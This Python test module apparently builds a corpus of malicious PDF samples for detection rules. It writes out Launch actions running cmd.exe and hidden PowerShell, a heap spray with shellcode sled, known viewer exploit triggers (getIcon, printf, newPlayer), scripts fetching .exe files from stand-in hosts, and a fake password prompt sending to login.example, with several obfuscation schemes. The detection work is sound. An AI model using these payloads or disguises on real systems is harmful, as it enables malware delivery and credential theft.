"""PDFs that act badly, disguised in the ways that are common."""

from __future__ import annotations

from collections.abc import Callable
from functools import partial

from pikepdf import Dictionary, Name, String

from tools.corpus.detections.case import Case
from tools.corpus.detections.pdf_files import Box, Note, action, document, plain, script


def _codes(text: str) -> str:
    return ",".join(str(ord(char)) for char in text)


def _percent(text: str) -> str:
    return "".join(f"%{ord(char):02x}" for char in text)


def _joined(text: str, size: int = 3) -> str:
    pieces = [text[at : at + size] for at in range(0, len(text), size)]
    return "+".join(f"'{piece}'" for piece in pieces)


_SLED = "%u9090%u9090%uc031%u4090" * 12
_SPRAY = f"""
var code = unescape('{_SLED}');
var block = unescape('%u0c0c%u0c0c');
while (block.length < 0x20000) block += block;
block = block.substring(0, 0x20000 - code.length);
var held = new Array();
for (var i = 0; i < 40; i++) held[i] = block + code;
"""
_ICON = (
    "var s = unescape('%0a'); while (s.length < 0x4000) s += s; s = 'N.' + s; Collab.getIcon(s);"
)
_LAUNCHED = 'this.exportDataObject({ cName: "invoice.docm", nLaunch: 2 });'
_SHIFTED = "".join(
    chr(ord(char) + 1) for char in "app.launchURL('http://pay.example/inv.exe',true);"
)


def _keyed(text: str) -> str:
    """A script that decodes by the letters of its own function: whoever changes it breaks it."""
    function = (
        "function k(s) { var me = arguments.callee.toString().replace(/[^a-z]/g, ''), out = '';"
        " for (var i = 0; i < s.length; i++) out += String.fromCharCode(s[i] ^ me.length % 50);"
        " eval(out); }"
    )
    key = sum("a" <= char <= "z" for char in function) % 50
    return f"{function} k([{','.join(str(ord(char) ^ key) for char in text)}]);"


def _case(name: str, rule: str, make: Callable[[], bytes]) -> Case:
    return Case(name, "pdf", make, rule)


def _document(name: str, rule: str, **parts: object) -> Case:
    return _case(name, rule, partial(document, **parts))  # type: ignore[arg-type]  # as document says


def _launch_cmd() -> bytes:
    windows = Dictionary(
        F=String("cmd.exe"),
        P=String("/c cd %TEMP% && echo Set o=CreateObject(\"MSXML2.XMLHTTP\")>a.vbs && a.vbs\n\n\n"
                 "To view the encrypted content please tick the box and press Open."),
    )  # fmt: skip
    return document(opening=Dictionary(S=Name.Launch, Win=windows))


def _launch_powershell() -> bytes:
    windows = Dictionary(
        F=String("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"),
        P=String("-w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="),
    )
    return document(notes=[Note("/Link", action=Dictionary(S=Name.Launch, Win=windows))])


def _hex_names() -> bytes:
    code = b"<" + b"app.launchURL('http://203.0.113.9/update.exe', false);".hex().encode() + b">"
    return plain(
        [
            b"<</Type/Catalog/Pages 2 0 R/#4fpenA#63tion 4 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>",
            b"<</S/J#61vaScr#69pt/#4aS %s>>" % code,
        ]
    )


def _next_chain() -> bytes:
    last = script("this.exportDataObject({cName: 'setup.js', nLaunch: 2});")
    middle = action("GoTo", D=String("x"), Next=last)
    first = action("Named", N=Name.NextPage, Next=middle)
    return document(opening=first, attached={"setup.js": b"WScript.Echo(1);"})


def _embedded_jump() -> bytes:
    target = Dictionary(R=Name.C, N=String("evil.pdf"))
    away = Dictionary(
        S=Name.GoToE, F=String("\\\\203.0.113.7\\share\\x.pdf"), T=target, D=String("a")
    )
    return document(page_events={"O": away})


PDF_BAD: tuple[Case, ...] = (
    _case("launch-cmd.pdf", "pdf-starts-shell", _launch_cmd),
    _case("launch-powershell.pdf", "powershell-downloads", _launch_powershell),
    _case("hex-names.pdf", "pdf-fetches-program", _hex_names),
    _case("next-chain.pdf", "pdf-opens-attached-program", _next_chain),
    _case("remote-goto.pdf", "pdf-asks-share", _embedded_jump),
    _document(
        "attached-docm.pdf",
        "pdf-opens-attached-program",
        opening=_LAUNCHED,
        attached={"invoice.docm": b"PK\3\4"},
    ),
    _document(
        "split-words.pdf",
        "pdf-opens-attached-program",
        opening=f"var f = this[{_joined('exportDataObject')}]; var o = new Object(); o[{_joined('cName')}] = {_joined('run.vbs')};"
        f" o[{_joined('nLaunch')}] = 1 + 1; f.call(this, o);",
        attached={"run.vbs": b"MsgBox 1"},
    ),
    _document(
        "char-codes.pdf",
        "pdf-opens-attached-program",
        opening=f"eval(String.fromCharCode({_codes(_LAUNCHED)}));",
        attached={"invoice.docm": b"PK\3\4"},
    ),
    _document(
        "shifted-array.pdf",
        "pdf-fetches-program",
        named={
            "a": f"var k = [{_codes(_SHIFTED)}], out = ''; for (var i = 0; i < k.length; i++) out += String.fromCharCode(k[i] - 1);"
            " var run = this['ev' + 'al']; app.setTimeOut('run(out)', 1500);"
        },
    ),
    _document(
        "heap-spray.pdf", "pdf-fills-memory", opening=_SPRAY + _ICON, scripts_in_streams=True
    ),
    _document(
        "eval-chain.pdf",
        "pdf-exploits-long-argument",
        opening=f"eval(unescape('{_percent('eval(unescape(' + chr(34) + _percent(_ICON) + chr(34) + '))')}'));",
    ),
    _document(
        "printf.pdf",
        "pdf-exploits-printf",
        opening="if (app.viewerVersion >= 8 && app.viewerVersion < 9.1) { var n = '12' + '999'; for (var i = 0; i < 18; i++) n += '9';"
        " util['prin' + 'tf']('%450' + '00f', n); }",
    ),
    _document(
        "annotation-subject.pdf",
        "pdf-runs-code-of-document",
        opening="this.syncAnnotScan(); var a = this.getAnnots({nPage: 0}); var s = a[0].subject; var t = s.replace(/z/g, '%');"
        " app['eval'](unescape(t));",
        notes=[Note(subject=_percent(_LAUNCHED + "//" + "-" * 400).replace("%", "z"))],
        attached={"invoice.docm": b"PK\3\4"},
    ),
    _document(
        "title.pdf",
        "pdf-runs-code-of-document",
        opening="var t = this.info.Title, out = ''; for (var i = 0; i < t.length; i += 2) out += String.fromCharCode(parseInt(t.substr(i, 2), 16));"
        " new Function(out)();",
        info={"Title": (_SPRAY + _ICON).encode().hex()},
    ),
    _document(
        "hidden-field.pdf",
        "pdf-runs-code-of-document",
        named={
            "init": "var v = this.getField('data').value; var f = eval; f(v.split('').reverse().join(''));"
        },
        fields=[Box("data", value=(_LAUNCHED + "/*" + "x" * 1000 + "*/")[::-1], flags=1)],
        attached={"invoice.docm": b"PK\3\4"},
    ),
    _document(
        "words-of-page.pdf",
        "pdf-runs-code-of-document",
        opening="var out = ''; for (var i = 0; i < this.getPageNumWords(0); i++) out += String.fromCharCode(this.getPageNthWord(0, i, false));"
        " eval(out);",
        words=" ".join(
            str(ord(char)) for char in "this.submitForm('http://203.0.113.4/x');" + " " * 300
        ),
    ),
    _document(
        "player.pdf",
        "pdf-exploits-player",
        document_events={
            "WC": script(
                "util.printd('1.345678901.345678901.345678901', new Date()); try { this.media.newPlayer(null); } catch (e) {} util.printd('1.34', new Date());"
            )
        },
    ),
    _document(
        "own-file.pdf",
        "pdf-opens-attached-program",
        named={
            "x": "this.createDataObject('upd.hta', '<script>new ActiveXObject(\"WScript.Shell\")</script>'); this.exportDataObject({cName: 'upd.hta', nLaunch: 2});"
        },
    ),
    _document("callee-key.pdf", "pdf-hides-code-that-acts", opening=_keyed(_ICON)),
    _document(
        "password-box.pdf",
        "pdf-sends-password",
        opening="var p = app.response({cQuestion: 'Your session has expired. Mail password:', bPassword: true});"
        " this.submitForm({cURL: 'https://login.example/collect?p=' + p, cSubmitAs: 'HTML'});",
    ),
    _document(
        "xfa-initialize.pdf",
        "pdf-exploits-long-argument",
        xfa="<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template xmlns='http://www.xfa.org/schema/xfa-template/2.5/'>"
        "<subform name='f'><event activity='initialize'><script contentType='application/x-javascript'>"
        "var s = 'N.'; while (s.length &lt; 9000) s += s; Collab['get' + 'Icon'](s);</script></event></subform></template></xdp:xdp>",
    ),
    _document(
        "xfa-library.pdf",
        "pdf-exploits-long-argument",
        xfa="<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template xmlns='http://www.xfa.org/schema/xfa-template/2.6/'>"
        "<subform name='f'><variables><script name='lib' contentType='application/x-javascript'>"
        "function go() { var s = 'N.'; while (s.length &lt; 9000) s += s; Collab.getIcon(s); }</script></variables>"
        "<event activity='docReady'><script contentType='application/x-javascript'>f.lib.go();</script></event></subform></template></xdp:xdp>",
    ),
    _document(
        "link-to-program.pdf",
        "pdf-links-to-program-at-bare-address",
        notes=[Note("/Link", action=action("URI", URI=String("http://203.0.113.15/Invoice.exe")))],
    ),
    _document(
        "widget-enter.pdf",
        "pdf-asks-share",
        notes=[
            Note(
                "/Link",
                events={
                    "E": script(
                        "var h = ['203', '0', '113', '5']; app.openDoc({cPath: '//' + h.join('.') + '/s/a.pdf'});"
                    )
                },
            )
        ],
    ),
)
